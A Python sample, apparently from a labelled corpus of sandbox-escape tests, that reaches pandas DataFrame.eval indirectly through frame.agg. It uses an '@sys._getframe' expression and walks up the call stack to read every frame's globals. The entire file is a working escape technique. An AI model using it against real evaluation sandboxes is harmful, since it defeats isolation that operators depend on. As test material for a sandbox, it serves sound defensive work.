# class: frame_escape
# technique: sys._getframe written in expression text on a level-walked `sys`: the outermost frame's globals (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: read
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)


def outer(expr, **names):
    for depth in range(1, 48):
        try:
            return run("eval", 0, expr, level=depth, local_dict=names)
        except Exception:
            continue
    raise RuntimeError("no frame resolves the expression")

f = outer("@sys._getframe(0)")
names = []
while f is not None:
    names.append(", ".join(sorted(ev("@f.f_globals", f=f))[:30]))
    f = ev("@f.f_back", f=f)
df = pd.DataFrame({"frame_globals": names})
